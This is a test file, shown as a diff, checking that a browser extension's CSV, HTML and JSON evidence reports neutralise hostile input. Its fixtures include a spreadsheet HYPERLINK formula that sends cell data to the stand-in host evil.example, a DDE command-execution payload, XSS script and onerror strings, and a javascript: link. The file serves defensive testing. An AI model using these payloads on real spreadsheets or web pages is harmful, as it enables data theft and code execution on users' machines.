@@ -1,0 +1,161 @@
+import { describe, expect, test } from 'vitest';
+import type { Entry, ListDefinition } from '../list/format.ts';
+import { buildCsvReport, csvField } from './csv-report.ts';
+import { buildHtmlReport, escapeHtml } from './html-report.ts';
+import { buildJsonReport, EVIDENCE_FORMAT } from './json-report.ts';
+import type { EvidenceInput } from './types.ts';
+
+const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+
+const lists: ListDefinition[] = [
+  {
+    id: 'us-fcc',
+    name: 'FCC Covered List <b>',
+    label: 'FCC',
+    family: 'procurement-ban',
+    authority: 'FCC',
+    jurisdiction: 'US',
+    meaningReader: 'r',
+    meaningBuyer: 'b',
+  },
+];
+
+const entities: Entry[] = [
+  {
+    id: 'hikvision',
+    kind: 'company',
+    names: [{ text: 'Hikvision "<script>alert(1)</script>"', type: 'legal' }],
+    countries: ['CN'],
+    domains: [],
+    parents: [],
+    listings: [
+      {
+        list: 'us-fcc',
+        status: 'in_force',
+        dateListed: '2021-03-12',
+        citation: '+cmd|" /C calc"!A0',
+        sourceUrl: 'https://www.fcc.gov/supplychain/coveredlist',
+      },
+      { list: 'us-other', status: 'revoked', sourceUrl: 'javascript:alert(1)' },
+    ],
+  },
+];
+
+const input: EvidenceInput = {
+  page: { url: 'https://vendor.example/cams?a=1&b=2', title: HOSTILE, hostname: 'vendor.example' },
+  capturedAt: '2026-11-27T23:00:00.000Z',
+  extension: { name: 'Sanctions Lens', version: '0.1.0' },
+  list: { version: 42, dataDate: '2026-07-31', feedHash: 'ab'.repeat(32) },
+  hits: [
+    {
+      entityId: 'hikvision',
+      text: 'Hikvision',
+      confidence: 'likely',
+      context: 'Buy\nHikvision "cams", <img src=x onerror=alert(1)>',
+    },
+    { entityId: 'hikvision', text: 'Hikvision', confidence: 'confirmed', context: '@SUM(1+1) Hikvision' },
+    { entityId: 'unknown-id', text: '-2+3', confidence: 'possible', context: '-2+3' },
+  ],
+  entities,
+  lists,
+};
+
+/** Minimal RFC 4180 reader, enough to check that quoting round-trips. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
+    let v = '';
+    i += 1;
+    for (;;) {
+      const j = text.indexOf('"', i);
+      v += text.slice(i, j);
+      i = j + 1;
+      if (text[i] === '"') {
+        v += '"';
+        i += 1;
+      } else break;
+    }
+    row.push(v);
+    if (text[i] === ',') i += 1;
+    else if (text.startsWith('\r\n', i)) {
+      rows.push(row);
+      row = [];
+      i += 2;
+    }
+  }
+  return rows;
+}
+
+describe('CSV report', () => {
+  test('formula-looking values are defused, quotes doubled, newlines kept inside quotes', () => {
+    expect(csvField(HOSTILE)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    for (const s of ['+1', '-1', '@x', '\tx', '\rx', '＝1']) expect(csvField(s).startsWith(`"'`)).toBe(true);
+    expect(csvField('a\nb')).toBe('"a\nb"');
+    expect(csvField('Huawei')).toBe('"Huawei"');
+  });
+
+  test('one row per mention and listing, metadata on every row, round-trips through a CSV reader', () => {
+    const text = buildCsvReport(input);
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    const rows = parseCsv(text.slice(1));
+    const [header, ...body] = rows;
+    expect(header?.[0]).toBe('captured_at');
+    expect(body).toHaveLength(2 * 2 + 1);
+    for (const r of body) {
+      expect(r).toHaveLength(header!.length);
+      expect(r[1]).toBe(input.page.url);
+      expect(r[2]).toBe(`'${HOSTILE}`);
+      expect(r[6]).toBe('ab'.repeat(32));
+    }
+    expect(body[0]?.[11]).toBe(input.hits[0]!.context);
+    expect(body[0]?.[18]).toBe(`'+cmd|" /C calc"!A0`);
+    expect(body[2]?.[11]).toBe(`'@SUM(1+1) Hikvision`);
+    expect(body[4]?.[7]).toBe('unknown-id');
+    expect(body[4]?.[9]).toBe(`'-2+3`);
+    for (const cell of body.flat()) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
+  });
+});
+
+describe('HTML report', () => {
+  const html = buildHtmlReport(input);
+  test('page and list text cannot inject markup or script', () => {
+    expect(html).not.toContain('<script>');
+    expect(html).not.toContain('<img');
+    expect(html).not.toContain('<b>');
+    expect(html).toContain('Hikvision &quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot;');
+    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
+    expect(html).not.toMatch(/href="javascript:/i);
+    expect(html).toContain("default-src 'none'");
+    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
+    expect(escapeHtml(`'"&<>`)).toBe('&#39;&quot;&amp;&lt;&gt;');
+  });
+  test('records URL, time, versions, hash, listings with citations and links, and marked mentions', () => {
+    expect(html).toContain('<a href="https://vendor.example/cams?a=1&amp;b=2"');
+    expect(html).toContain('2026-11-27T23:00:00.000Z');
+    expect(html).toContain('Sanctions Lens 0.1.0');
+    expect(html).toContain('ab'.repeat(32));
+    expect(html).toContain('<a href="https://www.fcc.gov/supplychain/coveredlist"');
+    expect(html).toContain('+cmd|&quot; /C calc&quot;!A0');
+    expect(html).toContain('Revoked');
+    expect(html).toContain('Buy\n<mark>Hikvision</mark> &quot;cams&quot;');
+  });
+  test('a page without hits says so', () => {
+    expect(buildHtmlReport({ ...input, hits: [] })).toContain('No restricted names were flagged');
+  });
+});
+
+describe('JSON report', () => {
+  test('parses back with metadata, grouped entities and every hit', () => {
+    const r = JSON.parse(buildJsonReport(input));
+    expect(r.format).toBe(EVIDENCE_FORMAT);
+    expect(r.page.title).toBe(input.page.title);
+    expect(r.list).toEqual(input.list);
+    expect(r.summary).toEqual({ entities: 2, mentions: 3 });
+    expect(r.entities[0]).toMatchObject({ id: 'hikvision', confidence: 'confirmed', mentionCount: 2 });
+    expect(r.entities[0].listings[0]).toMatchObject({ listName: 'FCC Covered List <b>', authority: 'FCC' });
+    expect(r.hits[0].context).toBe(input.hits[0]!.context);
+  });
+});
